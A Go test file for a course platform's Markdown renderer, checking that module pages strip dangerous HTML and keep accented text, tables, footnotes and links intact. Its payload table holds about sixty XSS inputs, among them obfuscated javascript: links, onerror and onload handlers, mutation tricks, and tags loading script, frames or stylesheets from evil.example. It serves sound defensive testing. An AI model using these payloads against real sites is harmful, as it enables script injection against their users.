package courses

import (
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// xssPayloads are Markdown sources (some of them raw HTML) that try to get
// script, styles or frames into a module page.
var xssPayloads = []struct{ name, src string }{
	{"script tag", `<script>alert(1)</script>`},
	{"script tag upper case", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`},
	{"script inline in paragraph", "Hola <script>alert(1)</script> mundo"},
	{"javascript link", `[clic](javascript:alert(1))`},
	{"javascript link mixed case", `[clic](jAvAsCrIpT:alert(1))`},
	{"javascript link tab entity", `[clic](java&#x09;script:alert(1))`},
	{"javascript link newline entity", `[clic](java&#x0A;script:alert(1))`},
	{"javascript link decimal entity", `[clic](&#106;avascript:alert(1))`},
	{"javascript link colon entity", `[clic](javascript&colon;alert(1))`},
	{"javascript link percent", `[clic](javascript%3Aalert(1))`},
	{"javascript link angle brackets", `[clic](<javascript:alert(1)>)`},
	{"javascript link leading space entity", `[clic](&#32;javascript:alert(1))`},
	{"javascript autolink", `<javascript:alert(1)>`},
	{"javascript reference link", "[clic][r]\n\n[r]: javascript:alert(1)"},
	{"javascript link in table", "| a |\n|---|\n| [x](javascript:alert(1)) |"},
	{"javascript link in footnote", "Texto[^1]\n\n[^1]: [x](javascript:alert(1))"},
	{"javascript bare text", `javascript:alert(1)`},
	{"vbscript link", `[clic](vbscript:msgbox(1))`},
	{"data html link", `[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`},
	{"data link upper case", `[clic](DATA:text/html,<script>alert(1)</script>)`},
	{"file link", `[clic](file:///etc/passwd)`},
	{"javascript image", `![x](javascript:alert(1))`},
	{"data svg image", `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`},
	{"data png image", `![x](data:image/png;base64,iVBORw0KGgo=)`},
	{"http image", `![x](http://evil.example/track.png)`},
	{"img onerror", `<img src=x onerror=alert(1)>`},
	{"img onerror quoted inline", `Hola <img src="x" onerror="alert(1)"> mundo`},
	{"img javascript src entity", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`},
	{"raw javascript anchor", `<a href="javascript:alert(1)">x</a>`},
	{"raw entity javascript anchor", `<a href="&#x6A;avascript:alert(1)">x</a>`},
	{"raw data anchor", `<a href="data:text/html,<script>alert(1)</script>">x</a>`},
	{"svg onload", `<svg onload=alert(1)>`},
	{"svg script", `<svg><script>alert(1)</script></svg>`},
	{"svg animate", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`},
	{"math mutation", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`},
	{"iframe", `<iframe src="https://evil.example"></iframe>`},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"style tag", `<style>body{display:none}</style>`},
	{"style attribute", `<p style="background:url(javascript:alert(1))">x</p>`},
	{"onclick div", `<div onclick="alert(1)">x</div>`},
	{"details ontoggle", `<details open ontoggle=alert(1)>`},
	{"object", `<object data="https://evil.example/x.swf"></object>`},
	{"embed", `<embed src="https://evil.example/x.swf">`},
	{"form", `<form action="https://evil.example"><input name=p><button formaction=javascript:alert(1)>x</button></form>`},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`},
	{"base href", `<base href="https://evil.example/">`},
	{"link stylesheet", `<link rel=stylesheet href=https://evil.example/x.css>`},
	{"comment hiding img", `<!--<img src=x onerror=alert(1)>-->`},
	{"unclosed comment trick", "<!-- --!><img src=x onerror=alert(1)>"},
	{"attribute breakout in link", `[x](https://ok.example/"onmouseover="alert(1))`},
	{"attribute breakout in title", `[x](https://ok.example/ "t\" onmouseover=\"alert(1)")`},
	{"attribute breakout in alt", `![x" onerror="alert(1)](https://ok.example/x.png)`},
	{"heading id breakout", `# x" onclick="alert(1)`},
	{"code language breakout", "```go\" onclick=\"alert(1)\nfmt.Println()\n```"},
	{"code content", "```\n</code><script>alert(1)</script>\n```"},
	{"inline code content", "`<img src=x onerror=alert(1)>`"},
	{"html block", "<div>\n<script>alert(1)</script>\n</div>"},
	{"noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
	{"template", `<template><script>alert(1)</script></template>`},
}

func TestRenderMarkdownRefusesXSS(t *testing.T) {
	for _, tc := range xssPayloads {
		t.Run(tc.name, func(t *testing.T) {
			out, err := RenderMarkdown(tc.src)
			if err != nil {
				t.Fatalf("RenderMarkdown: %v", err)
			}
			assertHarmless(t, out)
		})
	}
}

// TestMarkdownPolicyRefusesXSS feeds the payloads to the sanitiser alone,
// as if goldmark had let raw HTML through, so the second layer is known to
// hold on its own.
func TestMarkdownPolicyRefusesXSS(t *testing.T) {
	policy := markdownPolicy()
	for _, tc := range xssPayloads {
		t.Run(tc.name, func(t *testing.T) {
			assertHarmless(t, policy.Sanitize(tc.src))
		})
	}
}

// FuzzRenderMarkdown looks for any input that gets past both layers.
func FuzzRenderMarkdown(f *testing.F) {
	for _, tc := range xssPayloads {
		f.Add(tc.src)
	}
	f.Add("[a](https://x.example/ \"t\") ![b](/courses/c/files/1) | x |\n|:-:|\n| y |\n\n[^1]: n")
	f.Fuzz(func(t *testing.T, src string) {
		out, err := RenderMarkdown(src)
		if err != nil {
			t.Fatal(err)
		}
		assertHarmless(t, out)
	})
}

func TestRenderMarkdownDropsRawHTML(t *testing.T) {
	out, err := RenderMarkdown("Hola <b>mundo</b> y <span title=x>adiós</span>.\n\n<div>bloque</div>\n")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(out, "<b>") || strings.Contains(out, "<span") || strings.Contains(out, "<div") {
		t.Errorf("raw HTML kept: %q", out)
	}
	if !strings.Contains(out, "<p>Hola mundo y adiós.</p>") {
		t.Errorf("text around raw HTML lost: %q", out)
	}
	if strings.Contains(out, "<!--") || strings.Contains(out, "omitted") {
		t.Errorf("goldmark's omission comment leaked: %q", out)
	}
}

// allowedAttrs lists, per element, every attribute a rendered module may
// carry. Anything else in the output fails assertHarmless.
var allowedAttrs = map[string]map[string]bool{
	"p": {}, "br": {}, "hr": {}, "blockquote": {}, "pre": {},
	"em": {}, "strong": {}, "del": {}, "ul": {}, "li": {"id": true},
	"ol":    {"start": true},
	"code":  {"class": true},
	"table": {}, "thead": {}, "tbody": {}, "tr": {},
	"th": {"align": true}, "td": {"align": true},
	"h1": {"id": true}, "h2": {"id": true}, "h3": {"id": true},
	"h4": {"id": true}, "h5": {"id": true}, "h6": {"id": true},
	"a":   {"href": true, "title": true, "rel": true, "target": true, "class": true, "role": true},
	"img": {"src": true, "alt": true, "title": true},
	"sup": {"id": true},
	"div": {"class": true, "role": true},
}

// assertHarmless fails on any element, attribute or URL scheme in out
// outside what modules may contain. It looks at the tree a browser would
// build, and token by token, which also covers output nested deeper than
// the tree parser accepts (it stops at 512 open elements).
func assertHarmless(t *testing.T, out string) {
	t.Helper()
	if nodes, err := htmlElements(out); err == nil {
		for _, n := range nodes {
			checkElement(t, n.Data, n.Attr, out)
		}
	}
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			checkElement(t, tok.Data, tok.Attr, out)
		}
	}
}

// checkElement fails unless the element and each of its attributes are
// allowed, with URLs of allowed schemes only.
func checkElement(t *testing.T, name string, attr []html.Attribute, out string) {
	t.Helper()
	attrs, ok := allowedAttrs[name]
	if !ok {
		t.Errorf("element <%s> in %q", name, out)
		return
	}
	for _, a := range attr {
		if !attrs[a.Key] {
			t.Errorf("attribute %s on <%s> in %q", a.Key, name, out)
		}
		switch a.Key {
		case "href":
			if s := urlScheme(a.Val); s != "" && s != "http" && s != "https" && s != "mailto" {
				t.Errorf("href scheme %q in %q", s, out)
			}
		case "src":
			if s := urlScheme(a.Val); s != "" && s != "https" {
				t.Errorf("src scheme %q in %q", s, out)
			}
		}
	}
}

// urlScheme is the scheme a browser would see: it ignores tabs and newlines
// anywhere and control characters or spaces around the URL.
func urlScheme(raw string) string {
	raw = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, raw)
	raw = strings.TrimFunc(raw, func(r rune) bool { return r <= ' ' })
	u, err := url.Parse(raw)
	if err != nil {
		// A browser might still read a scheme from it; be strict.
		if i := strings.IndexByte(raw, ':'); i > 0 {
			return strings.ToLower(raw[:i])
		}
		return ""
	}
	return strings.ToLower(u.Scheme)
}

// htmlElements parses a fragment as the body of a page and returns its
// elements in document order.
func htmlElements(fragment string) ([]*html.Node, error) {
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(fragment), body)
	if err != nil {
		return nil, err
	}
	var all []*html.Node
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			all = append(all, n)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return all, nil
}

// firstElement returns the first element named tag in out, failing if none.
func firstElement(t *testing.T, out, tag string) *html.Node {
	t.Helper()
	nodes, err := htmlElements(out)
	if err != nil {
		t.Fatalf("parse %q: %v", out, err)
	}
	for _, n := range nodes {
		if n.Data == tag {
			return n
		}
	}
	t.Fatalf("no <%s> in %q", tag, out)
	return nil
}

// attrsOf returns an element's attributes as a map.
func attrsOf(n *html.Node) map[string]string {
	m := make(map[string]string, len(n.Attr))
	for _, a := range n.Attr {
		m[a.Key] = a.Val
	}
	return m
}

func TestRenderMarkdownKeepsContent(t *testing.T) {
	tests := []struct {
		name string
		src  string
		want []string // substrings of the output, in any order
	}{
		{
			name: "accented text comes out as typed",
			src:  "João Conceição y María Peña preguntan: ¿Qué es la protección social? «Extensão»",
			want: []string{"<p>João Conceição y María Peña preguntan: ¿Qué es la protección social? «Extensão»</p>"},
		},
		{
			name: "heading ids spell accents as plain letters",
			src:  "## ¿Qué es la protección social?\n\n# Extensão da proteção social\n",
			want: []string{
				`<h2 id="que-es-la-proteccion-social">¿Qué es la protección social?</h2>`,
				`<h1 id="extensao-da-protecao-social">Extensão da proteção social</h1>`,
			},
		},
		{
			name: "repeated headings get distinct ids",
			src:  "## Resumen\n\ntexto\n\n## Resumen\n\n## Resumen\n",
			want: []string{`<h2 id="resumen">`, `<h2 id="resumen-2">`, `<h2 id="resumen-3">`},
		},
		{
			name: "heading id ignores link targets and emphasis",
			src:  "### Ver la [guía *oficial*](https://www.ilo.org/guia)\n",
			want: []string{`<h3 id="ver-la-guia-oficial">`},
		},
		{
			name: "heading of punctuation only still has an id",
			src:  "## ¿?\n",
			want: []string{`<h2 id="section">¿?</h2>`},
		},
		{
			name: "table with alignment",
			src:  "| Nombre | Horas | Nota |\n|:--|:-:|--:|\n| João | 40 | 9,5 |\n| Peña | 20 | 8 |\n",
			want: []string{
				"<table>", "<thead>", "<tbody>",
				`<th align="left">Nombre</th>`, `<th align="center">Horas</th>`, `<th align="right">Nota</th>`,
				`<td align="left">João</td>`, `<td align="right">9,5</td>`,
			},
		},
		{
			name: "emphasis, strikethrough, code and quotes",
			src:  "*a* **b** ~~c~~ `d<e>`\n\n> cita\n\n```go\nfmt.Println(\"<hola>\")\n```\n",
			want: []string{
				"<em>a</em>", "<strong>b</strong>", "<del>c</del>", "<code>d&lt;e&gt;</code>",
				"<blockquote>\n<p>cita</p>\n</blockquote>",
				`<pre><code class="language-go">fmt.Println(&#34;&lt;hola&gt;&#34;)`,
			},
		},
		{
			name: "lists",
			src:  "- uno\n- dos\n\n3. tres\n4. cuatro\n",
			want: []string{"<ul>\n<li>uno</li>", `<ol start="3">`, "<li>cuatro</li>"},
		},
		{
			name: "images from the course and from https",
			src:  "![Mapa de cobertura](/courses/seguridad-social/files/12 \"Cobertura\") ![Logo](https://cdn.example.org/logo.png)",
			want: []string{
				`<img src="/courses/seguridad-social/files/12" alt="Mapa de cobertura" title="Cobertura">`,
				`<img src="https://cdn.example.org/logo.png" alt="Logo">`,
			},
		},
		{
			name: "footnotes",
			src:  "La OIT lo define así[^1].\n\n[^1]: Recomendación núm. 202, de João.\n",
			want: []string{
				`<sup id="fnref:1"><a href="#fn:1" class="footnote-ref" role="doc-noteref">1</a></sup>`,
				`<div class="footnotes" role="doc-endnotes">`,
				`<li id="fn:1">`,
				"Recomendación núm. 202, de João.",
				`<a href="#fnref:1" class="footnote-backref" role="doc-backlink">`,
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, err := RenderMarkdown(tc.src)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tc.want {
				if !strings.Contains(out, w) {
					t.Errorf("output lacks %q:\n%s", w, out)
				}
			}
			assertHarmless(t, out)
		})
	}
}

func TestRenderMarkdownLinks(t *testing.T) {
	tests := []struct {
		name, src string
		want      map[string]string // attributes of the first <a>
	}{
		{
			name: "other site opens in a new tab without opener",
			src:  "[Informe](https://www.ilo.org/informe \"OIT\")",
			want: map[string]string{"href": "https://www.ilo.org/informe", "title": "OIT", "rel": "nofollow noopener", "target": "_blank"},
		},
		{
			name: "plain http is a link too",
			src:  "[Portal](http://www.issa.int/)",
			want: map[string]string{"href": "http://www.issa.int/", "rel": "nofollow noopener", "target": "_blank"},
		},
		{
			name: "relative link stays in the tab",
			src:  "[siguiente](/courses/seguridad-social/modules/3)",
			want: map[string]string{"href": "/courses/seguridad-social/modules/3"},
		},
		{
			name: "fragment link to a heading",
			src:  "[arriba](#que-es-la-proteccion-social)",
			want: map[string]string{"href": "#que-es-la-proteccion-social"},
		},
		{
			name: "address without scheme counts as another site",
			src:  "[espejo](//mirror.example.org/guia)",
			want: map[string]string{"href": "//mirror.example.org/guia", "rel": "nofollow noopener", "target": "_blank"},
		},
		{
			name: "mailto",
			src:  "[tutora](mailto:tutoria@example.org)",
			want: map[string]string{"href": "mailto:tutoria@example.org"},
		},
		{
			name: "bare URL becomes a link",
			src:  "Vea https://www.social-protection.org/gimi/ hoy.",
			want: map[string]string{"href": "https://www.social-protection.org/gimi/", "rel": "nofollow noopener", "target": "_blank"},
		},
		{
			name: "bare www address becomes a link",
			src:  "Vea www.issa.int hoy.",
			want: map[string]string{"href": "http://www.issa.int", "rel": "nofollow noopener", "target": "_blank"},
		},
		{
			name: "accented path is escaped, not dropped",
			src:  "[guía](/courses/protección/files/1)",
			want: map[string]string{"href": "/courses/protecci%C3%B3n/files/1"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, err := RenderMarkdown(tc.src)
			if err != nil {
				t.Fatal(err)
			}
			got := attrsOf(firstElement(t, out, "a"))
			if len(got) != len(tc.want) {
				t.Errorf("attributes = %v, want %v", got, tc.want)
			}
			for k, v := range tc.want {
				if got[k] != v {
					t.Errorf("%s = %q, want %q (in %s)", k, got[k], v, out)
				}
			}
		})
	}
}

func TestRenderMarkdownConcurrent(t *testing.T) {
	src, err := os.ReadFile("testdata/module.md")
	if err != nil {
		t.Fatal(err)
	}
	want, err := RenderMarkdown(string(src))
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 20 {
				got, err := RenderMarkdown(string(src))
				if err != nil {
					t.Error(err)
					return
				}
				if got != want {
					t.Error("concurrent render differs from a lone one")
					return
				}
			}
		})
	}
	wg.Wait()
	for _, w := range []string{
		`<h1 id="modulo-2-que-es-la-proteccion-social">`,
		"João Conceição", "María Peña", "<table>", `<sup id="fnref:1">`,
	} {
		if !strings.Contains(want, w) {
			t.Errorf("module lacks %q", w)
		}
	}
}

func BenchmarkRenderMarkdown(b *testing.B) {
	src, err := os.ReadFile("testdata/module.md")
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := RenderMarkdown(string(src)); err != nil {
			b.Fatal(err)
		}
	}
}
